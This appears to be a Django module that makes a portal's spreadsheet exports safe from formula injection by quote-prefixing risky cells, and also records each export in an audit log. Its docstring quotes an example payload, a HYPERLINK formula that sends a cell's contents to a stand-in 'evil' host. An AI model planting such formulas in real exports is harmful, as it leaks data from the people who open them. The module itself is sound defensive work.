"""Exports of data: every one leaves an audit record (who exported what, how many rows, in which format), and
none carries a live formula.

Formula injection: a cell whose text starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is run
as a formula by Excel (``=HYPERLINK("http://evil/?"&A1, "点击")`` as an activity title). Every spreadsheet the
portal writes goes through this module, so the rule lives in one place:

- openpyxl workbooks are ``core.exports.Workbook``: such a text is written as a text cell with Excel's quote
  prefix (shown exactly as typed, never evaluated, not even after editing the cell);
- django-import-export exports (the admin's) pass their rows through ``neutralise_dataset``: such a text gets
  a leading apostrophe, which every format (CSV, TSV, XLSX, ODS...) keeps as text.

Numbers, dates and empty cells are left as they are (a negative number is a number, not text). Characters
a workbook cannot hold (control characters, lone surrogates) become U+FFFD instead of failing the export.
"""

from __future__ import annotations

import re

import openpyxl
from django.http import HttpResponse
from openpyxl.cell.cell import Cell
from openpyxl.worksheet._write_only import WriteOnlyWorksheet
from openpyxl.worksheet.worksheet import Worksheet

from core.services import record_event
from core.verbs import CoreVerb

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

# OWASP's list: what spreadsheet programs read as the start of a formula.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_UNWRITABLE = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff]")


def neutralise(value):
    """``value`` safe for any spreadsheet format: formula-like text behind an apostrophe, other values as they are."""
    if not isinstance(value, str):
        return value
    value = _UNWRITABLE.sub("\ufffd", value)
    return "'" + value if value.startswith(FORMULA_START) else value


def neutralise_dataset(dataset):
    """A tablib ``Dataset`` (django-import-export) with every cell passed through ``neutralise``, in place."""
    for index, row in enumerate(dataset):
        if any(isinstance(value, str) for value in row):
            dataset[index] = [neutralise(value) for value in row]
    return dataset


def _cell(sheet, value):
    """A value for ``sheet.append``: formula-like text as a quoted text cell, which Excel never evaluates."""
    if not isinstance(value, str):
        return value
    value = _UNWRITABLE.sub("\ufffd", value)
    if not value.startswith(FORMULA_START):
        return value
    cell = Cell(sheet, row=1, column=1, value=value)  # placed by append
    cell.data_type = "s"  # openpyxl made "=..." a formula
    cell.quotePrefix = True
    return cell


class _SafeSheet(Worksheet):
    def append(self, iterable):
        if isinstance(iterable, dict):
            raise TypeError("Append a list of values.")
        super().append([_cell(self, value) for value in iterable])

    def cell(self, row, column, value=None):
        cell = super().cell(row, column)
        if value is not None:
            safe = _cell(self, value)
            if isinstance(safe, Cell):
                cell.value, cell.data_type, cell.quotePrefix = safe.value, "s", True
            else:
                cell.value = safe
        return cell


class _SafeWriteOnlySheet(WriteOnlyWorksheet):
    def append(self, row):
        super().append([_cell(self, value) for value in row])


class Workbook(openpyxl.Workbook):
    """An openpyxl workbook whose sheets never hold a formula from data: every export builds on it."""

    def __init__(self, write_only: bool = False, iso_dates: bool = False):
        super().__init__(write_only=write_only, iso_dates=iso_dates)
        if not write_only:
            self._sheets = []  # before the safe sheet is made, or it would be named "Sheet1" beside openpyxl's "Sheet"
            self._sheets = [_SafeSheet(self)]

    def create_sheet(self, title=None, index=None):
        sheet = (_SafeWriteOnlySheet if self.write_only else _SafeSheet)(parent=self, title=title)
        self._add_sheet(sheet=sheet, index=index)
        return sheet


def export_filename(title, *parts, extension: str = "xlsx") -> str:
    """A download's name in the user's language with the local date: ``提案统计-2026-20261205.xlsx``."""
    from django.utils import timezone

    words = [str(title), *(str(p) for p in parts if p not in (None, ""))]
    return "-".join([*words, timezone.localdate().strftime("%Y%m%d")]) + f".{extension}"


def attachment_header(filename: str) -> str:
    """``Content-Disposition`` for a download whose name may be Chinese (RFC 6266 ``filename*``)."""
    from django.utils.http import content_disposition_header

    return content_disposition_header(True, filename)


def xlsx_download(content: bytes, filename: str) -> HttpResponse:
    """An Excel workbook's bytes as a download named ``filename`` (with its .xlsx; Chinese is fine)."""
    response = HttpResponse(content, content_type=XLSX)
    response["Content-Disposition"] = attachment_header(filename)
    return response


def record_export(
    request_or_user,
    what: str,
    rows: int | None = None,
    *,
    obj=None,
    file_format: str = "xlsx",
    masked: bool | None = None,
) -> None:
    """Record an export in the audit log (``verb="export"``). ``obj`` is the record the export hangs on
    (default: the exporting user, so the event is found on their timeline)."""
    user = getattr(request_or_user, "user", request_or_user)
    data = {"what": what, "rows": rows, "format": file_format}
    if masked is not None:
        data["masked"] = masked
    record_event(
        obj if obj is not None else user,
        actor=user if getattr(user, "is_authenticated", False) else None,
        verb=CoreVerb.EXPORT,
        comment=what,
        data=data,
    )
